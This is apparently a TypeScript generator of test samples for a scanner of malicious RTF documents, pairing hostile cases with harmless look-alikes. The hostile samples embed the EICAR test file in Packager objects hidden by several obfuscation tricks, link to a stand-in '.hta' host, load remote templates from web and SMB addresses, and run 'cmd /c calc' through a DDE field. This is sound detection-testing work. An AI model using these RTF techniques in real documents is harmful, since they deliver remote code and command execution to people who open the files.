import { eicar } from '../../scanners/samples';
import type { Sample, SampleMaker } from '../sample';

const le32 = (value: number): Buffer => {
  const out = Buffer.alloc(4);
  out.writeUInt32LE(value);
  return out;
};
const zeroEnded = (text: string): Buffer => Buffer.from(`${text}\0`, 'latin1');
const counted = (text: string): Buffer => Buffer.concat([le32(text.length + 1), zeroEnded(text)]);

/** An OLE 1 object ([MS-OLEDS] 2.2.5). */
export function ole1(className: string, data: Buffer, format = 2): Buffer {
  return Buffer.concat([le32(0x501), le32(format), counted(className), le32(0), le32(0), le32(data.length), data]);
}

/** A file in a package of Windows' Packager. */
export function packaged(name: string, data: Buffer): Buffer {
  const path = `C:\\Temp\\${name}`;
  return Buffer.concat([
    Buffer.from([2, 0]),
    zeroEnded(name),
    zeroEnded(path),
    Buffer.from([0, 0, 3, 0]),
    counted(path),
    le32(data.length),
    data,
  ]);
}

const rtf = (body: string, start = '{\\rtf1\\ansi '): Buffer => Buffer.from(`${start}${body}}`, 'latin1');
const object = (hex: string, words = '\\objemb'): string => `{\\object${words}{\\*\\objdata ${hex}}{\\result text}}`;
const moniker = Buffer.concat([
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.alloc(504),
  Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
  Buffer.from('http://a.example/x.hta', 'utf16le'),
]);

function malicious(): [string, Buffer][] {
  const hex = ole1('Package', packaged('note.txt', eicar())).toString('hex');
  const split = hex.replace(/(.{30})/g, '$1\r\n{\\par }\t');
  const nested = hex.replace(/(.{40})/g, '$1{\\*\\zzz 1234567}');
  const escaped = hex.replace(/(.{50})/g, "$1\\'0a{}");
  const binary = ole1('Package', packaged('note.txt', eicar()));
  return [
    ['a package', rtf(object(hex))],
    ['a package without class', rtf(object(hex.toUpperCase(), '\\objautlink\\objupdate'))],
    ['digits among groups', rtf(object(split))],
    ['digits among unknown groups', rtf(object(nested))],
    ['digits among escapes', rtf(object(escaped))],
    ['a short head', rtf(object(hex), '{\\rt')],
    ['space before the head', rtf(object(hex), '\r\n {\\rtf')],
    ['no end', Buffer.from(`{\\rtf1{\\object{\\*\\objdata ${hex}`, 'latin1')],
    [
      'binary data',
      Buffer.concat([Buffer.from(`{\\rtf1{\\object{\\*\\objdata\\bin${binary.length} `), binary, Buffer.from('}}}')]),
    ],
    ['an object without a class of its own', rtf(object(eicar().toString('hex')))],
    ['a program', rtf(object(ole1('Package', packaged('run.scr', Buffer.from('text'))).toString('hex')))],
    ['an equation', rtf(object(ole1('Equation.3', Buffer.alloc(200, 1)).toString('hex')))],
    [
      'an equation in pieces',
      rtf(object(ole1('eQuatiOn.3', Buffer.alloc(200, 1)).toString('hex').replace(/(..)/g, '$1 {\\b }'))),
    ],
    ['a link to the network', rtf(object(ole1('OLE2Link', moniker).toString('hex'), '\\objautlink\\objupdate'))],
    ['a remote template', rtf('{\\*\\template https://templates.example.com/t.dotm}')],
    ['a remote template in characters', rtf("{\\*\\template \\'68\\u116?tp://a.example/t}")],
    ['a template on a share', rtf('{\\*\\template \\\\\\\\203.0.113.7\\\\s\\\\t.dotm}')],
    ['a field with DDE', rtf('{\\field{\\*\\fldinst {\\b DDE}{\\i AUTO} cmd "/c calc"}{\\fldrslt x}}')],
  ];
}

const harmless = (): [string, Buffer][] => [
  ['text', rtf('Hello {\\b world}.\\par \\u8364? 5')],
  [
    'links and styles',
    rtf(
      '{\\fonttbl{\\f0 Arial;}}{\\field{\\*\\fldinst {HYPERLINK "https://example.com/"}}{\\fldrslt our shop}}{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}',
    ),
  ],
  ['a template on the disk', rtf('{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}')],
  ['a picture', rtf(`{\\pict\\pngblip ${Buffer.alloc(300, 7).toString('hex')}}`)],
];

/** Objects, templates and fields of RTF, written plainly and hidden, and harmless look-alikes. */
export const samples: SampleMaker = () => {
  const named = (expect: Sample['expect'], list: [string, Buffer][]): Sample[] =>
    list.map(([title, bytes]) => ({ kind: 'rtf', name: `${title}.doc`, bytes, expect }));
  const cut = packaged('note.txt', Buffer.alloc(90, 'text'));
  return [
    ...named('malicious', malicious()),
    ...named('unscannable', [
      ['a package cut short', rtf(object(ole1('Package', cut.subarray(0, cut.length - 30)).toString('hex')))],
    ]),
    ...named('clean', harmless()),
  ];
};
